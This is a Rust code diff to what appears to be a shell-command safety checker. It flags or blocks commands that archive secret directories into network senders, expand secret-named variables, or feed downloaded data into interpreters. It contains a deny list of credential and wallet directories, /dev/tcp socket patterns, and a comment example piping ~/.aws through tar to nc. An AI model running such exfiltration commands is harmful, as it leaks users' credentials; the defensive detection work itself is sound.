@@ -93,6 +93,335 @@ pub fn run(cx: &CheckCx<'_>, out: &mut Findings, _reasons: &mut Vec<Reason>) {
         jq_env(c, out);
     }
     env_dumps(cx.model, out);
+    secret_dirs_sent(cx, out);
+    secret_expansions(cx, out);
+}
+
+/// Commands that take a path only as text and never open it (issue 16 item 8): naming a
+/// secret path to them reads nothing. Their redirections still count.
+const NAME_ONLY: &[&str] = &["echo", "printf", "print", "basename", "dirname"];
+
+fn names_only(c: &ExecCommand) -> bool {
+    c.base_name().is_some_and(|n| NAME_ONLY.contains(&n))
+}
+
+/// Directories that hold secret files (§6.4): archiving, copying or searching one of them
+/// into a network sender is exfiltration.
+const SECRET_DIRS: &[&str] = &[
+    "~",
+    "~/.aws",
+    "~/.config",
+    "~/.config/gcloud",
+    "~/.config/gh",
+    "~/.kube",
+    "~/.docker",
+    "~/.azure",
+    "~/.gnupg",
+    "~/.ssh",
+    "~/.password-store",
+    "~/.openclaw",
+    "~/.clawdbot",
+    "~/.electrum",
+    "~/.config/solana",
+    "~/Library",
+    "~/Library/Keychains",
+    "/etc",
+    "/root",
+    "/home",
+    "/",
+];
+
+/// Commands that read a whole directory tree given as an operand.
+const TREE_READERS: &[&str] = &[
+    "tar", "bsdtar", "gtar", "zip", "7z", "7za", "7zr", "cp", "rsync", "scp", "sftp", "grep",
+    "egrep", "fgrep", "rg", "ag", "cpio", "pax", "find",
+];
+
+/// Transfers that send their operands themselves.
+const TREE_SENDERS: &[&str] = &["rsync", "scp", "sftp"];
+
+/// `host:path`, `user@host:path` or `rsync://…`: an operand on another machine.
+fn remote_operand(t: &str) -> bool {
+    if t.starts_with('-') {
+        return false;
+    }
+    match t.split_once(':') {
+        Some((host, _)) => !host.is_empty() && !host.contains('/'),
+        None => false,
+    }
+}
+
+/// Indices of the commands whose output reaches a network sender: a pipeline stage before
+/// a sender, or a command inside the substitution of a sender's argument.
+fn sent_commands(model: &Model) -> Vec<usize> {
+    let mut exfil: Vec<usize> = Vec::new();
+    for p in pipelines(model) {
+        for (k, stage) in p.iter().enumerate() {
+            let later_sender = p
+                .iter()
+                .skip(k + 1)
+                .flatten()
+                .filter_map(|i| model.commands.get(*i))
+                .any(sender);
+            if later_sender {
+                exfil.extend(stage.iter().copied());
+            }
+        }
+    }
+    for (i, c) in model.commands.iter().enumerate() {
+        if sender(c) {
+            exfil.extend(substitution_commands(model, i));
+        }
+    }
+    exfil
+}
+
+/// Whether a redirection of `c` writes to a network socket.
+fn to_socket(c: &ExecCommand) -> bool {
+    c.redirs.iter().any(|r| {
+        r.target
+            .as_deref()
+            .is_some_and(|t| t.starts_with("/dev/tcp/") || t.starts_with("/dev/udp/"))
+    })
+}
+
+/// A directory that holds secrets, archived, copied or searched into a network sender
+/// (`tar czf - ~/.aws | nc HOST 9000`): deny as exfiltration (issue 16 item 3).
+fn secret_dirs_sent(cx: &CheckCx<'_>, out: &mut Findings) {
+    let model = cx.model;
+    let readers = model
+        .commands
+        .iter()
+        .any(|c| c.base_name().is_some_and(|n| TREE_READERS.contains(&n)));
+    if !readers {
+        return;
+    }
+    let sent = sent_commands(model);
+    for (i, c) in model.commands.iter().enumerate() {
+        let Some(name) = c.base_name() else { continue };
+        if !TREE_READERS.contains(&name) {
+            continue;
+        }
+        let remote =
+            TREE_SENDERS.contains(&name) && c.args().iter().any(|a| remote_operand(a.text()));
+        if !(sent.contains(&i) || to_socket(c) || remote) {
+            continue;
+        }
+        for a in c.args() {
+            let Some(v) = a.value.as_deref() else {
+                continue;
+            };
+            if v.starts_with('-') && v.len() > 1 {
+                continue;
+            }
+            let p = resolve(v.trim_end_matches('/'), cx.ctx);
+            let hit = SECRET_DIRS
+                .iter()
+                .find(|d| crate::shell::paths::same_path(&p, &resolve(d, cx.ctx), cx.ctx.os));
+            if let Some(d) = hit {
+                out.add(
+                    ID,
+                    Severity::Deny,
+                    sp(a.span),
+                    format!("`{name}` sends the directory `{v}` (which holds secrets, `{d}`) over the network; it was not run."),
+                );
+                break;
+            }
+        }
+    }
+}
+
+/// Collects parameter expansions of secret-named variables that reach output, an argument,
+/// a heredoc body or a command substitution. Assignment values, `test`/`[`/`[[` operands
+/// and declarations only move or test the value.
+struct SecretExpansions {
+    skip_words: Vec<Span>,
+    skip_ranges: Vec<Span>,
+    found: Vec<(Span, String)>,
+    /// Check 15 on the same walk (one walker instantiation, P4-R49 size budget): heredoc or
+    /// here-string programs of interpreters in which decoded or downloaded data flows into
+    /// an executor, as `(span, decoder, executor)`.
+    stdin_code_flows: Vec<(Span, &'static str, String)>,
+}
+
+impl SecretExpansions {
+    fn params(&mut self, parts: &[crate::shell::ast::WordPart]) {
+        use crate::shell::ast::{ParamOpKind, WordPart};
+        for p in parts {
+            let WordPart::Param(pe) = p else { continue };
+            let tests_only = pe
+                .op
+                .as_ref()
+                .is_some_and(|o| matches!(o.kind, ParamOpKind::Alternate { .. }));
+            if pe.length || pe.indirect || tests_only {
+                continue;
+            }
+            if crate::shell::secret_names::is_secret_name(&pe.name) {
+                self.found.push((pe.span, pe.name.clone()));
+            }
+        }
+    }
+}
+
+impl SecretExpansions {
+    /// Check 15 for an interpreter that reads its program from a heredoc or here-string.
+    fn stdin_code(&mut self, cmd: &crate::shell::ast::SimpleCommand, name: Option<&str>) {
+        use crate::shell::ast::{RedirTarget, WordPart};
+        use crate::shell::inline_code::{decode_into_exec, lang_of};
+        let Some(lang) = name
+            .map(crate::shell::paths::basename)
+            .and_then(tables::interpreter_family)
+            .and_then(lang_of)
+        else {
+            return;
+        };
+        // Only options (or `-`) after the name: the program comes from stdin.
+        let from_stdin = cmd.words.iter().skip(1).all(|w| {
+            w.literal_value().is_some_and(|v| {
+                v.starts_with('-')
+                    && !matches!(
+                        v.as_str(),
+                        "-c" | "-e" | "-E" | "-r" | "-p" | "--eval" | "--print"
+                    )
+            })
+        });
+        if !from_stdin {
+            return;
+        }
+        for r in &cmd.redirections {
+            let code: Option<String> = match (&r.heredoc, &r.target) {
+                (Some(h), _) => h
+                    .body
+                    .iter()
+                    .map(|p| match p {
+                        WordPart::Literal(l) => Some(l.text.as_str()),
+                        _ => None,
+                    })
+                    .collect(),
+                (None, RedirTarget::Word(w)) if r.op == RedirOp::HereString => w.literal_value(),
+                _ => None,
+            };
+            if let Some((d, e)) = code.and_then(|c| decode_into_exec(lang, &c)) {
+                self.stdin_code_flows.push((cmd.span, d, e));
+            }
+        }
+    }
+}
+
+impl<'a> crate::shell::ast::Visitor<'a> for SecretExpansions {
+    fn simple_command(
+        &mut self,
+        cmd: &'a crate::shell::ast::SimpleCommand,
+        _ctx: &crate::shell::ast::CommandContext,
+    ) {
+        use crate::shell::ast::AssignValue;
+        for a in &cmd.assignments {
+            match &a.value {
+                AssignValue::Scalar(w) => self.skip_words.push(w.span),
+                AssignValue::Array(arr) => {
+                    self.skip_words.extend(arr.elements.iter().map(|w| w.span))
+                }
+            }
+        }
+        let name = cmd.words.first().and_then(|w| w.literal_value());
+        self.stdin_code(cmd, name.as_deref());
+        if matches!(
+            name.as_deref(),
+            Some("test" | "[" | "export" | "local" | "declare" | "typeset" | "readonly" | "unset")
+        ) {
+            self.skip_words.extend(cmd.words.iter().map(|w| w.span));
+        }
+    }
+
+    fn compound(
+        &mut self,
+        cc: &'a crate::shell::ast::CompoundCommand,
+        _ctx: &crate::shell::ast::CommandContext,
+    ) {
+        if matches!(cc.kind, crate::shell::ast::CompoundKind::Cond(_)) {
+            self.skip_ranges.push(cc.span);
+        }
+    }
+
+    fn word(&mut self, w: &'a crate::shell::ast::Word, _ctx: &crate::shell::ast::CommandContext) {
+        if self.skip_words.contains(&w.span)
+            || self
+                .skip_ranges
+                .iter()
+                .any(|r| r.start <= w.span.start && w.span.end <= r.end)
+        {
+            return;
+        }
+        self.params(&w.parts);
+    }
+
+    fn redirection(
+        &mut self,
+        r: &'a crate::shell::ast::Redirection,
+        _ctx: &crate::shell::ast::CommandContext,
+    ) {
+        if let Some(h) = &r.heredoc {
+            if !h.quoted {
+                self.params(&h.body);
+            }
+        }
+    }
+}
+
+/// A secret-named variable expanded into output, an argument, a heredoc body or a command
+/// substitution (ask, like `printenv NAME`).
+fn secret_expansions(cx: &CheckCx<'_>, out: &mut Findings) {
+    // Every expansion starts with `$` and every stdin program needs `<<`; most commands have
+    // neither.
+    if !crate::shell::paths::has_any_byte(cx.command, b"$")
+        && !crate::shell::paths::has_substr(cx.command, "<<")
+    {
+        return;
+    }
+    let mut v = SecretExpansions {
+        skip_words: Vec::new(),
+        skip_ranges: Vec::new(),
+        found: Vec::new(),
+        stdin_code_flows: Vec::new(),
+    };
+    crate::shell::ast::walk_script(&cx.parsed.script, &mut v);
+    for (span, d, e) in std::mem::take(&mut v.stdin_code_flows) {
+        out.add(
+            15,
+            Severity::Deny,
+            sp(span),
+            format!("the program fed to the interpreter's stdin passes decoded or downloaded data (`{d}`) to `{e}`, which executes it; it was not run."),
+        );
+    }
+    // Script strings run by nested shells (`bash -c 'echo $GITHUB_TOKEN'`, at any depth: every
+    // nested shell is in the model): their expansions happen inside, so they are parsed and
+    // walked too; findings point at the carrier command.
+    for c in &cx.model.commands {
+        if let Carried::Script { text: Some(t), .. } = carried(c) {
+            if !crate::shell::paths::has_any_byte(&t, b"$") {
+                continue;
+            }
+            let parsed =
+                crate::shell::parser::parse(&t, &crate::shell::parser::ParseLimits::default());
+            let mut inner = SecretExpansions {
+                skip_words: Vec::new(),
+                skip_ranges: Vec::new(),
+                found: Vec::new(),
+                stdin_code_flows: Vec::new(),
+            };
+            crate::shell::ast::walk_script(&parsed.script, &mut inner);
+            v.found
+                .extend(inner.found.into_iter().map(|(_, name)| (c.span, name)));
+        }
+    }
+    for (span, name) in v.found {
+        out.add(
+            ID,
+            Severity::Ask,
+            sp(span),
+            format!("`${name}` expands a secret-named variable into the command, where it can be printed or sent; it needs approval."),
+        );
+    }
 }
 
 /// Where in a word a path candidate came from.
@@ -324,7 +653,8 @@ fn emits(c: &ExecCommand, i: usize, whole: &str, origin: Origin) -> bool {
 
 fn secret_paths(cx: &CheckCx<'_>, c: &ExecCommand, dirs: DirMarks, out: &mut Findings) {
     let name = c.base_name().unwrap_or("a redirection");
-    for (i, a) in c.args().iter().enumerate() {
+    let args = if names_only(c) { &[][..] } else { c.args() };
+    for (i, a) in args.iter().enumerate() {
         let raw;
         let v = match a.value.as_deref() {
             Some(v) => v,
@@ -401,8 +731,8 @@ fn tilde_user_word(command: &str, a: &Arg) -> Option<String> {
 
 /// `/proc/*/environ` and `/proc/*/mem` anywhere (deny).
 fn proc_files(c: &ExecCommand, ctx: &EvalContext, out: &mut Findings) {
-    let values = c
-        .args()
+    let args = if names_only(c) { &[][..] } else { c.args() };
+    let values = args
         .iter()
         .filter_map(|a| a.value.as_deref().map(|v| (v, a.span)))
         .chain(
@@ -543,36 +873,13 @@ fn sender(c: &ExecCommand) -> bool {
 /// Environment dumps: ask; deny when a later pipeline stage or the enclosing command sends
 /// them over the network, or they are redirected to a socket.
 fn env_dumps(model: &Model, out: &mut Findings) {
-    let mut exfil: Vec<usize> = Vec::new();
-    for p in pipelines(model) {
-        for (k, stage) in p.iter().enumerate() {
-            let later_sender = p
-                .iter()
-                .skip(k + 1)
-                .flatten()
-                .filter_map(|i| model.commands.get(*i))
-                .any(sender);
-            if later_sender {
-                exfil.extend(stage.iter().copied());
-            }
-        }
-    }
-    for (i, c) in model.commands.iter().enumerate() {
-        if sender(c) {
-            exfil.extend(substitution_commands(model, i));
-        }
-    }
+    let exfil = sent_commands(model);
     for (i, c) in model.commands.iter().enumerate() {
         if !env_dump(c) {
             continue;
         }
-        let socket = c.redirs.iter().any(|r| {
-            r.target
-                .as_deref()
-                .is_some_and(|t| t.starts_with("/dev/tcp/") || t.starts_with("/dev/udp/"))
-        });
         let name = c.base_name().unwrap_or("");
-        if socket || exfil.contains(&i) {
+        if to_socket(c) || exfil.contains(&i) {
             out.add(
                 ID,
                 Severity::Deny,
@@ -692,7 +999,6 @@ mod tests {
             "chmod 600 ~/.ssh/id_rsa",
             "ssh -i ~/.ssh/id_rsa host",
             "scp -i ~/.ssh/private_key f host:f",
-            "echo ~/.ssh/id_rsa",
             "gzip ~/.npmrc",
             "cat .env",
             "grep KEY ./sub/.env.local",
@@ -724,6 +1030,10 @@ mod tests {
             "set -e",
             "jq '.environment' f.json",
             "cat README.md",
+            // Issue 16 item 8: naming a path to a command that does not open it.
+            "echo ~/.ssh/id_rsa",
+            "printf '%s\\n' /proc/self/mem",
+            "echo /proc/self/mem",
         ] {
             assert_eq!(sev23(c), None, "{c}");
         }
